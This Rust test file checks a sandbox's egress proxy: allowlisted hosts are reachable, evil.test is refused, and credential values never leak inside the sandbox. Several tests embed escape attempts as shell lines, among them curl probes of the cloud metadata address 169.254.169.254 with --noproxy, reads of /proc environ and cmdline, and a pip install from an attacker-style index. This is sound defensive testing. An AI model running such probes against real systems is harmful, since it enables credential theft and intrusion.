//! The way out as programs inside a sandbox see it: curl, Python and pip as they are.

use std::{collections::BTreeMap, net::SocketAddr, sync::Arc};

use async_trait::async_trait;
use swarm_domain::network::NetworkDecision as Decision;
use swarm_sandbox::{
    Backend, Bubblewrap, Ended, Exec, Limit, Limits, Network, Sandbox, SandboxError, SandboxSpec,
    egress::{Allowed, Credential, Credentials, Egress, NoCredential, Report, Terms, WithoutCredentials},
};
use tokio::sync::mpsc::{UnboundedReceiver, unbounded_channel};
use tokio_util::sync::CancellationToken;

use crate::ground::{
    self, FINE, Ground, passed,
    server::{House, Server, says, with},
    text,
};

const CANARY: &str = "canary-8b1e44a7";

struct OnlyFor(&'static str);

#[async_trait]
impl Credentials for OnlyFor {
    fn cover(&self, host: &str, _port: u16) -> bool {
        host == self.0
    }

    async fn credentials(&self, _host: &str, _port: u16) -> Result<Vec<Credential>, NoCredential> {
        Ok(vec![Credential::bearer(CANARY).ok_or(NoCredential)?])
    }
}

/// What may be reached, and where it is.
struct Way {
    allowed: Allowed,
    terms: Terms,
    credentials: Arc<dyn Credentials>,
    limits: Limits,
}

impl Way {
    fn to(allowed: Allowed, places: &[(&str, SocketAddr)]) -> Self {
        let places: BTreeMap<_, _> = places.iter().map(|(host, at)| (host.parse().unwrap(), *at)).collect();
        let terms = Terms { places, ..Terms::default() };
        Self { allowed, terms, credentials: Arc::new(WithoutCredentials), limits: Limits::default() }
    }

    /// A sandbox with this way out; nothing where bubblewrap does not work.
    async fn sandbox(self, ground: &Ground) -> Option<(Box<dyn Sandbox>, UnboundedReceiver<Report>)> {
        let rung = Bubblewrap::open(&ground.state()).await.unwrap().with_guest(ground.relay());
        if let Err(error) = rung.probe().await {
            println!("skipped: {error}");
            return None;
        }
        let (to, reports) = unbounded_channel();
        let egress = Egress {
            allowed: self.allowed,
            terms: Arc::new(self.terms),
            credentials: self.credentials,
            reports: Some(to),
        };
        let spec = SandboxSpec { network: Network::Through(egress), ..ground.spec(self.limits) };
        Some((rung.create(spec).await.unwrap(), reports))
    }
}

fn hosts(patterns: &[&str]) -> Allowed {
    Allowed::of([], patterns.iter().copied()).unwrap()
}

async fn run(sandbox: &dyn Sandbox, line: &str) -> Ended {
    sandbox.exec(Exec::shell(line), CancellationToken::new()).await.unwrap()
}

fn told(reports: &mut UnboundedReceiver<Report>) -> Vec<(String, Decision)> {
    std::iter::from_fn(|| reports.try_recv().ok()).map(|report| (report.host, report.decision)).collect()
}

#[tokio::test]
async fn curl_and_python_reach_what_is_on_the_list_and_nothing_else() {
    let ground = Ground::new();
    let server = Server::plain(says("from outside")).await;
    let places = [("web.test", server.at), ("evil.test", server.at)];
    let Some((sandbox, mut reports)) = Way::to(hosts(&["web.test"]), &places).sandbox(&ground).await else {
        return;
    };
    let ended = run(
        &*sandbox,
        "curl -sS http://web.test/a; curl -sS -o /dev/null -w ' %{http_code}' http://evil.test/",
    )
    .await;
    assert_eq!(text(&ended.stdout), "from outside 403", "{}", text(&ended.stderr));
    let line =
        "python3 -c 'import urllib.request as r; print(r.urlopen(\"http://web.test/b\").read().decode())'
                python3 -c 'import urllib.request as r; r.urlopen(\"http://evil.test/\")' 2>&1 | tail -1";
    let ended = run(&*sandbox, line).await;
    assert_eq!(text(&ended.stdout), "from outside\nurllib.error.HTTPError: HTTP Error 403: Forbidden\n");
    assert_eq!(server.heard().len(), 2);
    let (ok, no) = (Decision::Allowed, Decision::Refused);
    let wanted = [("web.test", ok), ("evil.test", no), ("web.test", ok), ("evil.test", no)];
    assert_eq!(told(&mut reports), wanted.map(|(host, decision)| (host.to_owned(), decision)));
    sandbox.stop().await.unwrap();
}

#[tokio::test]
async fn past_the_proxy_there_is_nothing() {
    let ground = Ground::new();
    let server = Server::plain(says("never")).await;
    let port = server.at.port();
    let places = [("web.test", server.at)];
    let Some((sandbox, mut reports)) = Way::to(hosts(&["web.test"]), &places).sandbox(&ground).await else {
        return;
    };
    let line = format!(
        "tail -n +3 /proc/net/dev | cut -d: -f1 | tr -d ' '
         for at in 127.0.0.1:{port} 169.254.169.254 [fd00:ec2::254] 1.1.1.1 localhost:{port}; do
             curl -sS --max-time 2 --noproxy '*' http://$at/ 2>/dev/null && echo past $at
             curl -sS --max-time 2 http://$at/ 2>/dev/null | grep -q never && echo through $at
             curl -sS --max-time 2 -p http://$at/ 2>/dev/null | grep -q never && echo tunnelled $at
         done
         getent hosts web.test; touch /run/swarm/x /run/swarm-guest /run/swarm/way-out 2>/dev/null && echo written
         rm -f /run/swarm/way-out 2>/dev/null; mv /run/swarm/way-out /tmp 2>/dev/null; curl -sS http://web.test/"
    );
    let ended = run(&*sandbox, &line).await;
    assert_eq!(text(&ended.stdout), "lo\nnever", "{}", text(&ended.stderr));
    assert_eq!(server.heard().len(), 1, "only the last one");
    let told = told(&mut reports);
    assert!(
        told.len() > 4 && told[..told.len() - 1].iter().all(|(_, decision)| *decision == Decision::Refused),
        "{told:?}"
    );
    sandbox.stop().await.unwrap();
}

#[tokio::test]
async fn a_sandbox_without_a_network_has_no_way_out_and_no_word_of_one() {
    let ground = Ground::new();
    let Some(rung) = ground.bubblewrap().await else {
        return;
    };
    let ended = rung
        .run(&ground, Limits::default(), "ls -A /run; env | grep -i proxy; cat /proc/net/tcp | wc -l")
        .await;
    assert_eq!(text(&ended.stdout).trim(), "1");
}

#[tokio::test]
async fn a_network_without_the_guest_program_is_refused_with_what_to_do() {
    let ground = Ground::new();
    let rung = Bubblewrap::open(&ground.state()).await.unwrap();
    if rung.probe().await.is_err() || std::env::var_os("SWARM_GUEST").is_some() {
        return println!("skipped: bubblewrap does not work here, or a guest program is named");
    }
    let spec = SandboxSpec { network: Network::Through(Egress::default()), ..ground.spec(Limits::default()) };
    // The test's own program has no guest program beside it.
    let error = rung.create(spec).await.err().expect("refused");
    assert!(matches!(error, SandboxError::NoGuest), "{error}");
    assert!(error.problem().next.contains("SWARM_GUEST"));
}

#[tokio::test]
async fn a_command_that_passes_its_network_limit_is_ended() {
    let ground = Ground::new();
    let server = Server::plain(Arc::new(|_| with(&vec![b'x'; 1 << 20]))).await;
    let mut way = Way::to(hosts(&["web.test"]), &[("web.test", server.at)]);
    way.limits.network_bytes = 3 << 20;
    let Some((sandbox, _reports)) = way.sandbox(&ground).await else {
        return;
    };
    let ended = run(&*sandbox, "curl -sS -o /tmp/one http://web.test/; wc -c < /tmp/one").await;
    assert_eq!((ended.how, text(&ended.stdout).trim()), (FINE, "1048576"));
    let ended = run(&*sandbox, "while :; do curl -sS -o /dev/null http://web.test/; done").await;
    assert_eq!(ended.how, passed(Limit::Network));
    sandbox.stop().await.unwrap();
}

#[tokio::test]
async fn pip_installs_from_its_preset_and_from_nowhere_else() {
    let ground = Ground::new();
    let house = House::new();
    let wheel = wheel(&ground);
    let index = Server::tls(&house, "pypi.org", Arc::new(|head| {
        let page = "<!DOCTYPE html><a href=\"https://files.pythonhosted.org/textstat_demo-1.0-py3-none-any.whl\">textstat_demo-1.0-py3-none-any.whl</a>";
        if head.contains("/simple/textstat-demo/") { with(page.as_bytes()) } else { b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n\r\n".to_vec() }
    }))
    .await;
    let files = Server::tls(&house, "files.pythonhosted.org", Arc::new(move |_| with(&wheel))).await;
    ground::write(&ground.work.join("house.pem"), &house.pem);
    let places = [("pypi.org", index.at), ("files.pythonhosted.org", files.at), ("evil.test", index.at)];
    let way = Way::to(Allowed::of(["pypi"], []).unwrap(), &places);
    let Some((sandbox, mut reports)) = way.sandbox(&ground).await else {
        return;
    };
    if run(&*sandbox, "python3 -m pip --version").await.how != FINE {
        return println!("skipped: there is no pip here");
    }
    let line = "export PIP_CERT=/work/house.pem REQUESTS_CA_BUNDLE=/work/house.pem PIP_DISABLE_PIP_VERSION_CHECK=1 PIP_RETRIES=0
                python3 -m pip install -q --target /tmp/packages textstat-demo >&2
                PYTHONPATH=/tmp/packages python3 -c 'import textstat_demo; print(textstat_demo.SAYS)'
                python3 -m pip install -q --target /tmp/more --index-url https://evil.test/simple textstat-demo >/dev/null 2>&1 || echo refused";
    let ended = run(&*sandbox, line).await;
    assert_eq!(text(&ended.stdout), "installed\nrefused\n", "{}", text(&ended.stderr));
    let told = told(&mut reports);
    assert!(told.contains(&("files.pythonhosted.org".to_owned(), Decision::Allowed)), "{told:?}");
    assert!(told.contains(&("evil.test".to_owned(), Decision::Refused)), "{told:?}");
    sandbox.stop().await.unwrap();
}

/// A package that says one thing, made by Python's own zip.
fn wheel(ground: &Ground) -> Vec<u8> {
    let path = ground.root.path().join("demo.whl");
    let program = "import sys, zipfile
with zipfile.ZipFile(sys.argv[1], 'w') as z:
    z.writestr('textstat_demo.py', 'SAYS = \"installed\"\\n')
    info = 'textstat_demo-1.0.dist-info/'
    z.writestr(info + 'METADATA', 'Metadata-Version: 2.1\\nName: textstat-demo\\nVersion: 1.0\\n')
    z.writestr(info + 'WHEEL', 'Wheel-Version: 1.0\\nGenerator: x\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n')
    z.writestr(info + 'RECORD', '')
";
    let made = std::process::Command::new("python3").args(["-c", program]).arg(&path).status().unwrap();
    assert!(made.success());
    std::fs::read(path).unwrap()
}

/// Everything in the memory and environment of the processes of a running sandbox that is like one of these words.
fn in_memory(marker: &str, words: &[&str]) -> Vec<(usize, Vec<bool>)> {
    use std::os::unix::fs::FileExt;
    let mut found = Vec::new();
    for entry in std::fs::read_dir("/proc").unwrap().flatten() {
        let Some(process) = entry.file_name().to_str().and_then(|name| name.parse::<i32>().ok()) else {
            continue;
        };
        let folder = entry.path();
        let environment = std::fs::read(folder.join("environ")).unwrap_or_default();
        // The shell that becomes bubblewrap carries the marker too, and is a process of the sandbox.
        if process == i32::try_from(std::process::id()).unwrap() || !contains(&environment, marker.as_bytes())
        {
            continue;
        }
        let (Ok(maps), Ok(memory)) =
            (std::fs::read_to_string(folder.join("maps")), std::fs::File::open(folder.join("mem")))
        else {
            continue;
        };
        let mut seen = vec![false; words.len()];
        let mut bytes = 0;
        for line in maps.lines().filter(|line| line.contains(" rw")) {
            let range = line.split(' ').next().unwrap().split_once('-').unwrap();
            let (from, to) =
                (u64::from_str_radix(range.0, 16).unwrap(), u64::from_str_radix(range.1, 16).unwrap());
            let mut part = vec![0; usize::try_from((to - from).min(64 << 20)).unwrap()];
            let read = memory.read_at(&mut part, from).unwrap_or(0);
            bytes += read;
            for (seen, word) in seen.iter_mut().zip(words) {
                *seen |= contains(&part[..read], word.as_bytes());
            }
        }
        found.push((bytes, seen));
    }
    found
}

fn contains(hay: &[u8], needle: &[u8]) -> bool {
    hay.windows(needle.len()).any(|part| part == needle)
}

#[tokio::test]
async fn a_credentials_value_is_found_nowhere_inside_nor_in_a_report() {
    let ground = Ground::new();
    let house = House::new();
    let server = Server::tls(&house, "api.test", says("what only it knows")).await;
    let mut way = Way::to(hosts(&["api.test"]), &[("api.test", server.at)]);
    way.credentials = Arc::new(OnlyFor("api.test"));
    way.terms.authorities = vec![house.certificate.clone()];
    let Some((sandbox, mut reports)) = way.sandbox(&ground).await else {
        return;
    };
    let line = "python3 -c '
import time, urllib.request
answer = urllib.request.urlopen(urllib.request.Request(\"https://api.test/v1\", headers={\"Authorization\": \"Bearer mine\"})).read()
planted = \"\".join([\"plan\", \"ted-77\"]).encode()
open(\"/work/asked\", \"wb\").write(answer)
time.sleep(600)'";
    let cancel = CancellationToken::new();
    let running = sandbox.exec(Exec::shell(line), cancel.clone());
    let looking = async {
        ground::until("the answer", || ground.work.join("asked").exists()).await;
        let tag = ground.state().read_dir().unwrap().flatten().find_map(|entry| {
            let name = entry.file_name().to_string_lossy().into_owned();
            name.starts_with("run-").then_some(name)
        });
        let marker = format!("SWARM_SANDBOX={}", tag.unwrap());
        if !nix::unistd::Uid::effective().is_root() {
            println!("skipped: only root may look into the memory of a sandbox");
            cancel.cancel();
            return None;
        }
        let found = in_memory(&marker, &[CANARY, "planted-77", "what only it knows"]);
        cancel.cancel();
        Some(found)
    };
    let (_, found) = tokio::join!(running, looking);
    if let Some(found) = found {
        judge(&found);
    }
    assert!(server.heard()[0].contains(CANARY) && !server.heard()[0].contains("Bearer mine"));

    let look = format!(
        "curl -sS https://api.test/v2 -v >/tmp/all 2>&1; curl -sS -H 'Authorization: x' https://api.test/v3 >>/tmp/all
         cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline >>/tmp/all 2>/dev/null
         printf plan%s ted-78 >/tmp/planted
         grep -rlsaE '{}|planted-7[8]' /tmp /work /run/swarm /etc /dev/shm /var | sort",
        CANARY.replace("can", "ca[n]")
    );
    let ended = run(&*sandbox, &look).await;
    assert_eq!(text(&ended.stdout), "/tmp/planted\n", "{}", text(&ended.stderr));
    let reports: Vec<_> = std::iter::from_fn(|| reports.try_recv().ok()).collect();
    assert_eq!(reports.iter().filter(|report| report.credential).count(), 3, "{reports:?}");
    assert!(!format!("{reports:?}").contains(CANARY));
    sandbox.stop().await.unwrap();
    for entry in files_below(&ground.state()) {
        assert!(!contains(&std::fs::read(entry).unwrap_or_default(), CANARY.as_bytes()));
    }
}

/// What looking found of the canary, of a word that was made inside, and of the answer.
fn judge(found: &[(usize, Vec<bool>)]) {
    assert!(found.len() >= 2 && found.iter().all(|(bytes, _)| *bytes > 1_000), "{found:?}");
    for (at, word) in ["planted-77", "what only it knows"].iter().enumerate() {
        assert!(
            found.iter().any(|(_, seen)| seen[at + 1]),
            "looking finds nothing, not even {word}: {found:?}"
        );
    }
    assert!(found.iter().all(|(_, seen)| !seen[0]), "in the memory of a process");
}

/// Every file that is left below.
fn files_below(folder: &std::path::Path) -> Vec<std::path::PathBuf> {
    let mut left = vec![folder.to_owned()];
    let mut files = Vec::new();
    while let Some(folder) = left.pop() {
        for entry in std::fs::read_dir(folder).into_iter().flatten().flatten() {
            if entry.path().is_dir() { left.push(entry.path()) } else { files.push(entry.path()) }
        }
    }
    files
}
